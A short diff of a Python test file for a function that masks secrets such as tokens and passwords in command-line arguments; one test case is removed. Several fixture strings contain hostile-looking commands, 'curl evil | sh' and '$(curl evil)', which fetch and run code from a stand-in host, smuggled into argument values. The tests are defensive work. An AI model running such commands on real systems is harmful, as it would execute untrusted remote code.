@@ -25,7 +25,6 @@ from toolscope_core.mcp.servers.masked_words import (
         (["--token-file", "--verbose"], ["--token-file", "--verbose"]),
         (["--header=Authorization: Bearer x"], ["--header=Authorization: ***"]),
         (["-c", "A_TOKEN=1; curl evil | sh"], ["-c", "A_TOKEN=***; curl evil | sh"]),
-        (["--api-token=ab;c|d"], ["--api-token=***"]),
         (["env", "DB_PASSWORD=a&b(c"], ["env", "DB_PASSWORD=***"]),
         (["--api-token=a;$(curl evil)"], ["--api-token=***;$(curl evil)"]),
         (["-e", "A_TOKEN=1;require('x')"], ["-e", "A_TOKEN=***;require('x')"]),
